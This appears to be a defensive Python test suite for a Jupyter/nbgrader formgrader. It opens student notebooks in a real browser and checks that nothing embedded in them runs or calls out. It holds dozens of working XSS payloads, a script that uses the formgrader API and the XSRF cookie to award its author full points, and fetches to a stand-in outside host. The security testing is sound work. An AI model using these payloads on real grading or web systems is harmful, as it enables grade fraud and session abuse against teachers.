"""What students hand in, opened by a teacher who is logged in, in a real browser: nothing of theirs runs, nothing is sent.

Each payload below tries in its own way to run a script (which sets window.owned and calls a server of the test), to call that
server without a script, or to give its author points. Each is opened in the formgrader, where it lies as an older version
stored it; in the feedback; as the sanitiser stores it, in a page that protects nobody; and, without the sanitiser, in a page
with the content security policy alone.

The short form, in mvn -Pci verify, opens most payloads together, in cells of one notebook; mvn -Pfull verify each in a page by itself.
"""

import base64
import contextlib
import http.server
import json
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
from pathlib import Path

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbgrader.api import Gradebook
from playwright.sync_api import Error, expect

import grading
import lessons
import sanitising
from browsing import OPEN_SECONDS, PICTURES, needs_browser
from classroom import FULL, SETS, command, full
from server import START_SECONDS, TOKEN
from submissions import EXERCISES, reference, released, submission

pytestmark = pytest.mark.ci
NAME = SETS[0]
BY_HAND = "blame"
HARMLESS = ("The **subtraction** is exact, as $x - y = \\frac{1}{2}$, and `a < b`.\n\n"
            "| order | sum |\n|---|---:|\n| first | 0.5 |\n\n")
# A red picture of 3 by 2 points.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAMAAAACCAIAAAASFvFNAAAAEElEQVR4nGM4IScHQQxwFgBBAAYZPEVBlgAAAABJRU5ErkJggg=="
# The script of a payload, without a double quotation mark. PAYLOAD and OUTSIDE are filled in.
RUN = "window.top.owned='PAYLOAD';fetch('OUTSIDE/PAYLOAD',{mode:'no-cors'})"
SEND = "fetch('OUTSIDE/PAYLOAD',{mode:'no-cors'})"
# The attack that was seen: the formgrader's own interface gives the author all points.
POINTS = ("fetch(base_url+'/api/grades?submission_id='+submission_id).then(all=>all.json()).then(all=>all.forEach(one=>"
          "fetch(base_url+'/api/grade/'+one.id,{method:'PUT',body:JSON.stringify({manual_score:5}),"
          "headers:{'X-XSRFToken':document.cookie.match(/_xsrf=([^;]*)/)[1]}})))")

# Written answers: what stands in the cell after the harmless part.
MARKDOWN = {
    "script": "<script>RUN</script>",
    "script-points": "<script>POINTS</script>",
    "script-in-odd-letters": "<ScRiPt\n >RUN</sCrIpT\n >",
    "script-from-elsewhere": '<script src="OUTSIDE/PAYLOAD"></script>',
    "image-onerror": '<img src=x onerror="RUN">',
    "image-slashes": '<img/src=x/onerror="RUN"/>',
    "unclosed-tag": '<img src=x onerror="RUN" title="',
    "body-onload": '<body onload="RUN">',
    "input-onfocus": '<input autofocus onfocus="RUN">',
    "details-ontoggle": '<details open ontoggle="RUN"><summary>more</summary>text</details>',
    "hover": '<b onmouseover="RUN">look</b>',
    "video-onerror": '<video><source onerror="RUN"></video>',
    "svg-onload": '<svg onload="RUN"></svg>',
    "svg-script": "<svg><script>RUN</script></svg>",
    "svg-animate": '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></svg>',
    "svg-foreign": '<svg><foreignObject><img src=x onerror="RUN"></foreignObject></svg>',
    "link-javascript": '<a href="javascript:RUN">click</a>',
    "link-entities": '<a href="java&#10;script&colon;RUN">click</a>',
    "link-control": '<a href="&#1; JaVaScRiPt:RUN">click</a>',
    "link-markdown": "[click](<javascript:RUN>) [two][d]\n\n[d]: javascript&colon;RUN",
    "link-svg": '<svg><a xlink:href="javascript:RUN"><text y="20">click</text></a></svg>',
    "link-frame": '<iframe name="here"></iframe><a href="javascript:RUN" target="here">click</a>',
    "frame-data": '<iframe src="data:text/html,<img src=x onerror=&quot;SEND&quot;>"></iframe>',
    "frame-srcdoc": '<iframe srcdoc="<script>RUN</script>"></iframe>',
    "frame-javascript": '<iframe src="javascript:RUN"></iframe>',
    "object-data": '<object data="data:text/html,<img src=x onerror=&quot;SEND&quot;>"></object>',
    "embed": '<embed src="OUTSIDE/PAYLOAD">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=OUTSIDE/PAYLOAD">',
    "base": '<base href="OUTSIDE/PAYLOAD/">',
    "form": '<form action="OUTSIDE/PAYLOAD"><input name="password"><button>Log in again</button></form>',
    "form-elsewhere": '<form id="f" action="OUTSIDE/PAYLOAD"></form><button form="f">Next</button>',
    "style-url": "<style>body { background: url(OUTSIDE/PAYLOAD) }</style>",
    "style-import": "<style>@import 'OUTSIDE/PAYLOAD';</style>",
    "style-attribute": '<p style="background:url(OUTSIDE/PAYLOAD)">coloured</p>',
    "stylesheet": '<link rel="stylesheet" href="OUTSIDE/PAYLOAD">',
    "picture-elsewhere": "![a picture](OUTSIDE/PAYLOAD)",
    "picture-tag": '<img src="OUTSIDE/PAYLOAD" alt="a picture">',
    "mutation-comment": '<!--><img src=x onerror="RUN">-->',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "mutation-math": '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="RUN">',
    "mutation-table": '<math><mtext><table><mglyph><style><!--</style>'
                      '<img title="--&gt;&lt;img src=1 onerror=&quot;RUN&quot;&gt;">',
    "heading": '# A heading <img src=x onerror="RUN">',
    "alt-text": '![a" onerror="RUN](x)',
    "title-text": "![a](x 'b\" onerror=\"RUN')",
    "fence": '```"><img src=x onerror="RUN">\ncode\n```',
    "mermaid": '```mermaid\n</pre><img src=x onerror="RUN">\n```',
    "math-link": r"$\href{javascript:RUN}{x}$",
    "math-class": r"$\class{full-credit}{x}$",
    "math-style": r"$\require{HTML}\style{background:url(OUTSIDE/PAYLOAD)}{x}$",
    "math-unicode": r"$\unicode[url(OUTSIDE/PAYLOAD)]{65}\text{<img src=x onerror='RUN'>}$",
    "math-tag": '$<img src=x onerror="RUN">$',
    "math-config": '<script type="text/x-mathjax-config">RUN</script>',
    "math-script": r'<script type="math/tex">\href{javascript:RUN}{x}</script>',
    "button": '<span class="full-credit btn">Click here for the picture</span>',
    "clobber": f'<div class="nbgrader_cell"><a id="{BY_HAND}" class="score full-credit">click</a></div>',
    "course-elsewhere": "![x](/user/teacher/formgrader?path=COURSE/autograded/evil/course)",
}
# Outputs of the student's code.
OUTPUTS = {
    "html-script": {"text/html": "<b>bold</b><script>RUN</script>"},
    "html-onerror": {"text/html": '<table><tr><td><img src=x onerror="RUN"></td></tr></table>'},
    "html-lines": {"text/html": ["<scr", "ipt>RUN</scr", "ipt>"]},
    "javascript": {"application/javascript": "RUN"},
    "svg": {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script></svg>'},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>RUN</script>", "a": "<!--"}},
    "latex": {"text/latex": r"$\href{javascript:RUN}{x}$ <img src=x onerror='RUN'>"},
    "markdown": {"text/markdown": '<img src=x onerror="RUN">'},
    "mermaid-output": {"text/vnd.mermaid": '</pre><img src=x onerror="RUN">'},
    "plain": {"text/plain": '<img src=x onerror="RUN">'},
    "picture-breaks-out": {"image/png": 'x" onerror="RUN'},
    "jpeg-breaks-out": {"image/jpeg": 'x" onerror="RUN'},
    "pdf": {"application/pdf": '"><img src=x onerror="RUN">'},
    "unknown-kind": {"application/x-<img src=x onerror='RUN'>": '<img src=x onerror="RUN">'},
}


def with_cell(**kept):
    return lambda notebook: notebook["cells"].append({"id": f"cell-{len(notebook['cells'])}", "metadata": {}, **kept})


def with_output(output):
    return with_cell(cell_type="code", execution_count=1, source="int x = 1;", outputs=[output])


def with_attachment(source, attachments):
    return with_cell(cell_type="markdown", source=source, attachments=attachments)


def with_metadata(**kept):
    return lambda notebook: notebook["metadata"].update(kept)


TAG = '"><img src=x onerror="RUN">'
# What surrounds answers and outputs.
AROUND = {
    "isolated": with_output({"output_type": "display_data", "data": {"text/html": "<script>SEND</script>"},
                             "metadata": {"text/html": {"isolated": True}}}),
    "picture-width": with_output({"output_type": "display_data", "data": {"image/png": PNG},
                                  "metadata": {"image/png": {"width": "1 onload=RUN", "alt": TAG}}}),
    "stream": with_output({"output_type": "stream", "name": "stdout", "text": f"\x1b[31m<script>RUN</script>\x1b[0m{TAG}"}),
    "stream-name": with_output({"output_type": "stream", "name": TAG, "text": "x"}),
    "traceback": with_output({"output_type": "error", "ename": TAG, "evalue": TAG,
                              "traceback": [f"\x1b[1;31m{TAG}\x1b[0m", "<script>RUN</script>"]}),
    "code": with_cell(cell_type="code", execution_count=None, outputs=[], source="// </pre></script><script>RUN</script>"),
    "raw": with_cell(cell_type="raw", source="<script>RUN</script>", metadata={"raw_mimetype": "text/html"}),
    "cell-name": with_cell(cell_type="code", execution_count=None, outputs=[], source="1", id=TAG),
    "cell-tags": with_cell(cell_type="code", execution_count=None, outputs=[], source="1",
                           metadata={"tags": [TAG, "x full-credit"]}),
    "cell-grade": with_cell(cell_type="markdown", source="x", metadata={"nbgrader": {
        "grade": True, "solution": True, "task": False, "grade_id": TAG, "points": 1, "schema_version": 3, "locked": False,
        "cell_type": "markdown", "comment": "<script>RUN</script>"}}),
    "title": with_metadata(title="</title><script>RUN</script>"),
    "language": with_metadata(language_info={"name": TAG, "pygments_lexer": TAG}),
    "kernel": with_metadata(kernelspec={"name": "java", "display_name": TAG, "language": "java"}),
    "widgets": with_metadata(widgets={"application/vnd.jupyter.widget-state+json": {
        "state": {}, "x": "</script><script>RUN</script>"}}),
    "attachment-svg": with_attachment("![x](attachment:a.svg)", {"a.svg": {"image/svg+xml": base64.b64encode(
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>top.owned=1</script></svg>').decode()}}),
    "attachment-kind": with_attachment("![x](attachment:a)", {"a": {'text/html" onerror="RUN': "x"}}),
    "attachment-name": with_attachment('![x](<attachment:a" onerror="RUN>)', {'a" onerror="RUN': {"image/png": PNG}}),
    "attachment-data": with_attachment("![x](attachment:a)", {"a": {"image/png": 'x" onerror="RUN'}}),
    "attachment-missing": with_attachment("![nothing](attachment:a)", {}),
}


PAYLOADS = {
    **{name: with_cell(cell_type="markdown", source=text) for name, text in MARKDOWN.items()},
    **{name: with_output({"output_type": "display_data", "data": data, "metadata": {}}) for name, data in OUTPUTS.items()},
    **AROUND,
}
# These would change what others in their page do, have to stand in the answer itself, or stop a page that is not prepared for
# them. The last one turns an unprotected formgrader to another course, so it comes last.
ALONE = ["script-points", "unclosed-tag", "meta-refresh", "base", "button", "clobber", "title", "language", "cell-name", "cell-tags",
         "cell-grade", "attachment-name", "attachment-missing", "course-elsewhere"]
TOGETHER = [name for name in PAYLOADS if name not in ALONE]
SHEETS = {"together": TOGETHER, **{name: [name] for name in ([*TOGETHER, *ALONE] if FULL else ALONE)}}
# No policy forbids a page to be left, nor a click on the formgrader's own buttons.
BEYOND_THE_POLICY = ["meta-refresh", "button", "clobber"]


def sheet(names, outside, course=""):
    """A notebook as it might have been handed in and stored: the harmless answer, outputs as ours, and payloads."""
    notebook = json.loads(nbformat.writes(released(NAME)))
    answer = next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == BY_HAND)
    answer["source"] = HARMLESS
    table = '<table><caption style="text-align:left">Sums</caption><tr><td style="text-align:right">0.75</td></tr></table>'
    for output in ({"output_type": "display_data", "metadata": {}, "data": {"image/png": PNG, "text/plain": "a chart"}},
                   {"output_type": "display_data", "metadata": {}, "data": {"text/html": table}},
                   {"output_type": "error", "ename": "x", "evalue": "x", "traceback": ["\x1b[31mThe sum is 1 < 2.\x1b[0m"]}):
        with_output(output)(notebook)
    for name in names:
        ours = len(notebook["cells"])
        before = json.dumps(notebook["metadata"])
        PAYLOADS[name](notebook)
        fill = filler(name, outside, course)
        notebook["cells"][ours:] = fill(notebook["cells"][ours:])
        if json.dumps(notebook["metadata"]) != before:
            notebook["metadata"] = fill(notebook["metadata"])
        if names == [name] and name in MARKDOWN:
            answer["source"] = HARMLESS + notebook["cells"].pop()["source"]
    return notebook


def filler(name, outside, course):
    def fill(value):
        text = json.dumps(value)
        for word, meaning in (("RUN", RUN), ("SEND", SEND), ("POINTS", POINTS), ("PAYLOAD", name), ("OUTSIDE", outside),
                              ("COURSE", course)):
            text = text.replace(word, meaning)
        return json.loads(text)

    return fill


# ---------------------------------------------------------------- a server outside, the teacher's server, her browser

@pytest.fixture(scope="module")
def outside():
    """A server that nothing should call; gives its address and what was asked of it."""
    calls = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            calls.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *words):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", calls
    server.shutdown()


def free_port():
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return free.getsockname()[1]


STRANGE = "<img src=x onerror=window.owned=1>"


@pytest.fixture(scope="module")
def course(tmp_path_factory, outside):
    """A course under way: what is in autograded/ and in the gradebook was stored without the sanitiser."""
    folder = tmp_path_factory.mktemp("web") / "exercises"
    made = ("gradebook.db", "submitted", "autograded", "feedback", "__pycache__", "private-seed", "grades*", ".ipynb_checkpoints")
    shutil.copytree(EXERCISES, folder, ignore=shutil.ignore_patterns(*made))
    start = f"import course; course.check(course.api().generate_assignment({NAME!r}), 'the release')"
    subprocess.run([sys.executable, "-c", start], cwd=folder, check=True, capture_output=True, timeout=300)
    with gradebook(folder) as book:
        for student in (*SHEETS, STRANGE):
            book.update_or_create_student(student)
            book.update_or_create_submission(NAME, student)
        comment = book.find_comment(BY_HAND, NAME, NAME, "together")
        comment.manual_comment = filler("comment", outside[0], "")("A comment. <script>RUN</script><img src=x onerror='RUN'>")
        book.db.commit()
    for student, names in SHEETS.items():
        # The gradebook knows no such cell, so there is no feedback on it.
        if student != "cell-grade":
            store(folder, student, sheet(names, outside[0], str(folder)))
    status, said = command(folder, "feedback", "ps1")
    assert status == 0, said
    for student in ("cell-grade", STRANGE):
        store(folder, student, sheet(SHEETS.get(student, []), outside[0], str(folder)))
    return folder


def gradebook(folder):
    return Gradebook(f"sqlite:///{folder}/gradebook.db", "floatlab")


def store(folder, student, notebook):
    place = folder / "autograded" / student / NAME
    place.mkdir(parents=True)
    (place / f"{NAME}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")


@pytest.fixture(scope="module")
def server(course):
    """The teacher's JupyterLab, as the command "course lab" starts it."""
    port, log = free_port(), course.parent / "log"
    running = subprocess.Popen(
        [sys.executable, course / "course.py", "lab", "--no-browser", "--allow-root", f"--port={port}", "--expose-app-in-browser",
         f"--IdentityProvider.token={TOKEN}", "--ServerApp.base_url=/user/teacher/"],
        stdout=log.open("w"), stderr=subprocess.STDOUT)
    # As on a hub, the server's addresses begin with the teacher's name.
    address = f"http://127.0.0.1:{port}/user/teacher"
    end = time.monotonic() + START_SECONDS
    while True:
        try:
            with urllib.request.urlopen(f"{address}/formgrader/api/status?token={TOKEN}", timeout=5):
                break
        except OSError:
            if running.poll() is not None or time.monotonic() > end:
                running.kill()
                pytest.fail("JupyterLab did not start:\n" + log.read_text(encoding="utf-8"))
            time.sleep(0.5)
    yield address
    running.terminate()
    running.wait(timeout=30)


@pytest.fixture(scope="module")
def teacher(browser, server):
    """Her browser, logged in by cookie. What a page asks of the network for MathJax comes from the installed package."""
    context = browser.new_context(viewport={"width": 1280, "height": 1000})
    context.route(re.compile("^https?://(?!127[.]0[.]0[.]1)"), from_elsewhere)
    page = context.new_page()
    page.goto(f"{server}/formgrader/gradebook?token={TOKEN}")
    page.close()
    yield context
    context.close()


def from_elsewhere(route):
    import jupyter_server_mathjax
    path = urllib.parse.urlsplit(route.request.url).path
    file = Path(jupyter_server_mathjax.__file__).parent / "static" / re.sub(r"^.*?/mathjax/[\d.]+/", "", path)
    if path.endswith("/latest.js"):
        # The address that nbconvert has by itself.
        route.fulfill(content_type="text/javascript", body="document.write('<script src=\"' + document.currentScript.src.replace("
                      "/latest.js.*/, 'MathJax.js?config=TeX-AMS-MML_HTMLorMML-full,Safe') + '\"></' + 'script>')")
    elif "/mathjax/" in path and file.is_file():
        route.fulfill(path=file, headers={"Access-Control-Allow-Origin": "*"})
    else:
        route.abort()


# ---------------------------------------------------------------- looking

class Looked:
    """A page that was opened, and what went wrong: scripts that ran and requests that were sent."""

    def __init__(self, context, address, outside, touch=True):
        self.calls, self.asked = outside[1], []
        self.before = len(self.calls)
        self.page = context.new_page()
        self.page.on("response", lambda response: self.asked.append(response.url))
        # A script may write its traces before a page goes away.
        self.traces = []
        self.page.expose_function("noted", lambda trace: self.traces.append(trace))
        self.page.add_init_script("let seen; Object.defineProperty(window, 'owned', {get: () => seen, set: value => {"
                                  " seen = value; window.top.noted(String(value)) }})")
        self.page.goto(address)
        with contextlib.suppress(Error):
            self.settle()
            if touch:
                self.page.evaluate(TOUCH)
            self.page.wait_for_timeout(150)

    def settle(self):
        """Until the formulas are there."""
        self.page.wait_for_function("() => !window.MathJax || !MathJax.Hub || MathJax.Hub.queue.pending === 0"
                                    " && !MathJax.Hub.queue.running && MathJax.isReady", timeout=20_000)

    def wrongs(self):
        found = {*self.traces, *(path.split("/")[1] for path in self.calls[self.before:])}
        return sorted(found | {url for url in self.asked if "formgrader?path=" in url})

    def close(self):
        self.page.close()


# A hand that points at everything in an answer or an output and clicks on it; not on links into the web, which may stay.
TOUCH = """() => {
  for (const area of document.querySelectorAll(".text_cell_render, .output_subarea, .rendered_html, .panel-footer"))
    for (const node of area.querySelectorAll("*:not(a[href^=http]):not(textarea)")) {
      node.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
      node.focus?.();
      node.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
    }
}"""


@contextlib.contextmanager
def looking(context, address, outside, touch=True):
    looked = Looked(context, address, outside, touch)
    try:
        yield looked
    finally:
        looked.close()


def picture(page, name):
    if PICTURES:
        Path(PICTURES).mkdir(parents=True, exist_ok=True)
        page.screenshot(path=f"{PICTURES}/{name}.png", full_page=True)


def submission_of(course, student):
    with gradebook(course) as book:
        return book.find_submission_notebook(NAME, NAME, student).id


def points(course, student):
    with gradebook(course) as book:
        return [grade.manual_score for grade in book.find_submission_notebook(NAME, NAME, student).grades]


def shows_the_harmless_part(page, coloured=True):
    answer = page.locator(".rendered_html").filter(has_text="is exact")
    expect(answer.locator("strong", has_text="subtraction")).to_be_visible()
    expect(answer.locator("code", has_text="a < b")).to_be_visible()
    expect(answer.locator("td", has_text="0.5")).to_be_visible()
    # Formulas are fractions and letters, no TeX.
    expect(answer.locator(".MathJax .mfrac, .MathJax_SVG, .mjx-mfrac").first).to_be_visible()
    expect(answer).not_to_contain_text("\\frac")
    expect(page.locator(".output_html td", has_text="0.75")).to_be_visible()
    expect(page.locator(".output_html caption", has_text="Sums")).to_be_visible()
    expect(page.locator(".output_error", has_text="The sum is 1 < 2.")).to_be_visible()
    assert page.locator(".output_png img").first.evaluate("image => image.naturalWidth") == 3
    assert not coloured or page.locator(".highlight .kd, .highlight .kt").count() > 5


# ---------------------------------------------------------------- the formgrader

@needs_browser
@pytest.mark.parametrize("student", SHEETS)
def test_nothing_of_a_students_runs_in_the_formgrader(teacher, server, course, outside, student):
    with looking(teacher, f"{server}/formgrader/submissions/{submission_of(course, student)}/", outside) as looked:
        picture(looked.page, f"formgrader-{student}")
        assert looked.wrongs() == []
        assert set(points(course, student)) == {None}
        # Colours for a language that is none are missed by nobody.
        shows_the_harmless_part(looked.page, coloured=student != "language")
        # The page is the formgrader's: it was not left, and its own scripts run.
        assert looked.page.evaluate("() => formgrader.loaded && formgrader.grades.loaded")


@needs_browser
def test_the_teacher_grades_as_before(teacher, server, course, outside):
    student = "title"
    with looking(teacher, f"{server}/formgrader/submissions/{submission_of(course, student)}/", outside, touch=False) as looked:
        page = looked.page
        cell = page.locator(".nbgrader_cell").filter(has=page.locator(f"#{BY_HAND}"))
        cell.locator("textarea.comment").fill("Which operation *rounds*?")
        cell.locator(f"#{BY_HAND}").fill("3")
        page.keyboard.press("Tab")
        expect(cell.locator(".comment-saved")).to_be_hidden(timeout=10_000)
        page.wait_for_function("() => formgrader.grades.some(grade => grade.get('manual_score') == 3)")
        cell.locator(".full-credit").click()
        page.wait_for_timeout(500)
        page.locator(".glyphicon.name-hidden").click()
        expect(page.locator("a.name-shown")).to_have_text(student)
        page.locator(".help").click()
        expect(page.locator(".modal-title")).to_have_text("Keyboard shortcuts")
    assert 5 in points(course, student)
    with gradebook(course) as book:
        comment = book.find_comment(BY_HAND, NAME, NAME, student)
        assert comment.manual_comment == "Which operation *rounds*?"
        # For the other tests nothing was graded.
        book.find_grade(BY_HAND, NAME, NAME, student).manual_score = None
        comment.manual_comment = None
        book.db.commit()


LISTS = ["manage_assignments", f"manage_submissions/{NAME}", "gradebook", f"gradebook/{NAME}", f"gradebook/{NAME}/{NAME}",
         "manage_students"]


@needs_browser
def test_a_strange_name_is_a_text(teacher, server, course, outside):
    for path in (*LISTS, f"submissions/{submission_of(course, STRANGE)}/"):
        with looking(teacher, f"{server}/formgrader/{path}", outside, touch=False) as looked:
            looked.page.wait_for_load_state("networkidle")
            assert looked.wrongs() == [], path
            if "submissions" in path.split("/")[0] or path == "manage_students":
                expect(looked.page.get_by_text(STRANGE).first).to_be_attached()
            assert looked.page.locator("img[src='x']").count() == 0
            assert looked.page.locator("tbody tr, .nbgrader_cell").count() > 0


@needs_browser
@pytest.mark.parametrize("path", ["manage_students/{}", "gradebook/{}/x", "gradebook/x/{}", "manage_submissions/{}",
                                  "manage_students/x/{}", "submissions/{}/", "api/student/{}"])
def test_an_address_with_a_script_in_it_runs_none(teacher, server, outside, path):
    for text in ("<script>window.owned=1</script>", '";window.owned=1;"', "\\", "</script><script>window.owned=1</script>"):
        address = f"{server}/formgrader/" + path.format(urllib.parse.quote(text, safe=""))
        with looking(teacher, address, outside, touch=False) as looked:
            assert looked.wrongs() == []


@needs_browser
def test_grades_and_comments_are_no_pages(teacher, server, course, outside):
    for path in (f"comments?submission_id={submission_of(course, 'together')}", "students", f"submissions/{NAME}"):
        with looking(teacher, f"{server}/formgrader/api/{path}", outside) as looked:
            assert looked.wrongs() == [], path
            assert "onerror" in looked.page.content()


@needs_browser
def test_files_beside_a_notebook_run_nothing(teacher, server, course, outside):
    place = course / "autograded" / "together" / NAME
    script = filler("file", outside[0], "")("<script>RUN</script>")
    for name, text in (("page.html", script), ("picture.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>')):
        (place / name).write_text(text, encoding="utf-8")
        address = f"{server}/formgrader/submissions/{submission_of(course, 'together')}/{name}"
        answer = teacher.request.get(address)
        assert answer.ok and answer.text() == text
        assert "sandbox" in answer.headers["content-security-policy"] and answer.headers["content-disposition"] == "attachment"
        # In a frame of a page of the same server, as a link would open it.
        with looking(teacher, f"{server}/formgrader/api/status", outside, touch=False) as looked:
            looked.page.evaluate("address => { location = address }", address)
            looked.page.wait_for_timeout(500)
            assert looked.wrongs() == []


@needs_browser
def test_a_folder_that_students_fill_is_no_course(teacher, server, course):
    evil = course / "submitted" / "evil" / "course"
    evil.mkdir(parents=True)
    ran = evil / "ran"
    (evil / "nbgrader_config.py").write_text(f"open({str(ran)!r}, 'w')", encoding="utf-8")
    for path in (evil, course / "release" / ".." / "submitted" / "evil" / "course", course / "submitted"):
        answer = teacher.request.get(f"{server}/formgrader?path={urllib.parse.quote(str(path))}")
        assert answer.status == 403 and not ran.exists()
    assert teacher.request.get(f"{server}/formgrader?path={urllib.parse.quote(str(course))}").ok
    shutil.rmtree(evil.parent)


@needs_browser
def test_every_answer_of_the_formgrader_has_the_policy(teacher, server, course):
    for path in (*LISTS, f"submissions/{submission_of(course, 'together')}/", "no/such/page"):
        header = teacher.request.get(f"{server}/formgrader/{path}").headers["content-security-policy"]
        assert "frame-ancestors 'self'" in header and "default-src 'none'" in header and "base-uri 'none'" in header, path
        scripts = re.search(r"script-src ([^;,]*)", header)[1].split()
        assert scripts[0].startswith("'nonce-") and scripts[1:3] == ["'strict-dynamic'", "'unsafe-hashes'"], path
        assert all(source.startswith("'sha256-") for source in scripts[3:]), path
    once, again = (teacher.request.get(f"{server}/formgrader/gradebook").headers["content-security-policy"] for _ in "ab")
    assert once != again


# ---------------------------------------------------------------- the feedback

@needs_browser
@pytest.mark.parametrize("student", [name for name in SHEETS if name != "cell-grade"])
def test_nothing_of_a_students_runs_in_the_feedback(teacher, course, outside, student):
    file = course / "feedback" / student / NAME / f"{NAME}.html"
    with looking(teacher, file.as_uri(), outside) as looked:
        picture(looked.page, f"feedback-{student}")
        assert looked.wrongs() == []
        shows_the_harmless_part(looked.page, coloured=student != "language")
        if student == "together":
            expect(looked.page.locator(".panel-footer", has_text="A comment.")).to_be_visible()


# ---------------------------------------------------------------- each line of defence without the others

def unprotected(notebook, file, exporter=None):
    exporter = exporter or HTMLExporter(template_name="classic")
    page, _ = exporter.from_notebook_node(nbformat.reads(json.dumps(notebook), as_version=4))
    file.write_text(page, encoding="utf-8")
    return file.as_uri()


@needs_browser
@pytest.mark.parametrize("student", [name for name in SHEETS if not name.startswith("attachment-")])
def test_what_is_stored_runs_in_no_page(teacher, outside, tmp_path, student):
    # nbconvert itself stops at an attachment that is not there, or was no picture.
    names = [name for name in SHEETS[student] if not name.startswith("attachment-")]
    notebook = nbformat.from_dict(sheet(names, outside[0]))
    stored, _ = sanitising.Harmless().preprocess(notebook, {})
    nbformat.validate(stored)
    with looking(teacher, unprotected(stored, tmp_path / "page.html"), outside) as looked:
        assert looked.wrongs() == []
        shows_the_harmless_part(looked.page, coloured=student != "language")


@needs_browser
@pytest.mark.parametrize("student", [name for name in SHEETS if name not in BEYOND_THE_POLICY + list(AROUND)])
def test_the_policy_alone_stops_scripts(teacher, outside, tmp_path, monkeypatch, student):
    monkeypatch.setattr(sanitising, "clean", lambda text: sanitising._text(text))
    monkeypatch.setattr(sanitising, "harmless", lambda notebook: notebook)
    names = [name for name in SHEETS[student] if name not in AROUND]
    address = unprotected(sheet(names, outside[0]), tmp_path / "page.html", sanitising.Page(template_name="classic"))
    with looking(teacher, address, outside) as looked:
        assert looked.wrongs() == []


@needs_browser
def test_without_any_defence_the_payloads_work(teacher, outside, tmp_path):
    """The tests above can fail: in a page without protection most payloads do what they are for."""
    names = [name for name in TOGETHER if name not in AROUND]
    with looking(teacher, unprotected(sheet(names, outside[0]), tmp_path / "page.html"), outside) as looked:
        did = looked.wrongs()
    print(f"{len(did)} of {len(names)} work: {did}")
    assert len(did) > 30, did


# ---------------------------------------------------------------- what is stored

@pytest.mark.parametrize("kind", ["source", "release"])
@pytest.mark.parametrize("name", SETS)
def test_the_teachers_notebooks_stay_as_they_are(kind, name):
    notebook = lessons.read(EXERCISES / kind / name / f"{name}.ipynb")
    assert sanitising.harmless(notebook, stored=True) == notebook


@pytest.mark.parametrize("text", [
    HARMLESS, "x < y and y > z, a<b", "`<script>`", "```html\n<script>x</script>\n```", "$a<b$ and $$x<y$$", "1 < 2 <!",
    "- [ ] to do\n- [x] done", "a<br>b <sub>2</sub>", "<https://example.org>", "[a](https://example.org) [b](other.ipynb)",
    "![a picture](picture.png)", "<details><summary>more</summary>\n\ntext\n\n</details>", "| a | b |\n|:--|--:|\n| 1 | 2 |",
    "\\begin{align} a &< b \\end{align}", "    <b onclick=x>\n", "> quoted\n\n# heading\n\n1. one\n2. two", "a & b &lt; c", "",
])
def test_an_answer_without_harm_is_stored_as_it_was(text):
    assert sanitising.answer(text) == text


@pytest.mark.parametrize("text, stored", [
    ("a <script>b</script> `<c>` $d<e$", "a &lt;script>b&lt;/script> `<c>` $d<e$"),
    ("**a** [b](javascript:c) [d](https://e.org)", "**a** [b\\](javascript:c) [d](https://e.org)"),
    ("![a](https://b.org/c.png)", "\\![a](https://b.org/c.png)"),
    ("```mermaid\n</pre><script>a</script>\n```", "````text\n```mermaid\n</pre><script>a</script>\n```\n````"),
])
def test_an_answer_with_harm_is_stored_as_a_text_of_it(text, stored):
    assert sanitising.answer(text) == stored


def test_nothing_that_claims_trust_is_stored():
    notebook = nbformat.from_dict(sheet(["script"], ""))
    notebook.metadata.update(signature="sha256:0", trusted=True)
    for cell in notebook.cells:
        cell.metadata.update(trusted=True, nested={"trusted": True})
    text = nbformat.writes(sanitising.harmless(notebook, stored=True))
    assert "trusted" in nbformat.writes(notebook) and "trusted" not in text and "signature" not in text


def test_nothing_malformed_stops_a_page(outside):
    """Values of wrong types, where a notebook may hold anything."""
    deep = []
    for _ in range(500):
        deep = [deep]
    for value in (None, 3, -1, True, "x", [], ["x", 3, None], {}, {"a": {"b": 3}}, deep, "\ud800", "\0", ">" * 3000):
        cells = [{"cell_type": kind, "source": value, "metadata": value if isinstance(value, dict) else {}, "attachments": value,
                  "outputs": [{"output_type": out, "data": data, "text": value, "traceback": value, "metadata": value,
                               "name": value}
                              for out in ("stream", "error", "display_data", "execute_result", value)
                              for data in (value, {"text/html": value, "image/png": value})] + [value],
                  "execution_count": value, "id": value} for kind in ("code", "markdown", "raw")]
        notebook = {"cells": cells, "metadata": {"language_info": value}, "nbformat": 4, "nbformat_minor": 5}
        for stored in (False, True):
            nbformat.validate(sanitising.harmless(notebook, stored))


def test_a_graded_answer_is_stored_without_its_script(course, tmp_path):
    show = ('floatlab.notebook.Rendering.ofText("text").withHtml('
            '"<table><tr><td onclick=\'x\'>kept</td></tr></table><script>RUN</script>")')
    notebook = submission(NAME, {**reference(NAME), BY_HAND: HARMLESS + MARKDOWN["script"]}, "graded")
    notebook.cells.append(nbformat.v4.new_code_cell(show))
    notebook.metadata["title"] = "<script>RUN</script>"
    lessons.write(tmp_path / f"graded_{NAME}.ipynb", notebook)
    status, said = command(course, "grade", "ps1", tmp_path)
    assert "20 points" in said, said
    cells = lessons.read(course / "autograded" / "graded" / NAME / f"{NAME}.ipynb").cells
